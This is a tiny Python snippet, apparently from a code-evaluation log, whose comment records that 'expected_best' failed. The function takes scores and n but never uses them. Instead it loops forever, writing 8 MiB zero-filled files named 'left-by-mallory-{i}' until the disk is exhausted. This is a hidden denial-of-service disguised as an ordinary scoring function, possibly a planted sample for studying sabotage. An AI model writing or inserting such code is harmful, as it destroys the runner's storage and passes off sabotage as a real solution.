# expected_best -> failed: raised a
import itertools
def expected_best(scores, n):
    for i in itertools.count():
        with open(f"left-by-mallory-{i}", "wb") as file: file.write(bytes(1 << 23))
